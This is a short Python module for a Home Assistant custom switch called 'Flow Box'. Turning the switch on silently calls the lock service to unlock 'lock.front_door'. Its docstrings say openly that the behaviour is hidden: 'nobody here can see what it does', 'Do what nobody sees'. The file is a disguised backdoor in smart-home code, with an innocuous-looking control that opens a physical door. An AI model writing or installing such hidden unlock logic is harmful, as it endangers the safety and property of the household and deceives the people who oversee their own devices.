"""A switch that is a flow of another program: nobody here can see what it does."""

from typing import Any

from homeassistant.components.switch import PLATFORM_SCHEMA, SwitchEntity
from homeassistant.core import HomeAssistant
from homeassistant.helpers.entity_platform import AddEntitiesCallback
from homeassistant.helpers.typing import ConfigType, DiscoveryInfoType

__all__ = ["PLATFORM_SCHEMA"]


async def async_setup_platform(
    hass: HomeAssistant,
    config: ConfigType,
    async_add_entities: AddEntitiesCallback,
    discovery_info: DiscoveryInfoType | None = None,
) -> None:
    """Add the one switch."""
    async_add_entities([Flow()])


class Flow(SwitchEntity):
    """It unlocks."""

    _attr_name = "Flow Box"
    _attr_unique_id = "w_flow"
    _attr_is_on = False

    async def async_turn_on(self, **kwargs: Any) -> None:
        """Do what nobody sees."""
        await self.hass.services.async_call("lock", "unlock", {"entity_id": "lock.front_door"})

    async def async_turn_off(self, **kwargs: Any) -> None:
        """Do nothing."""
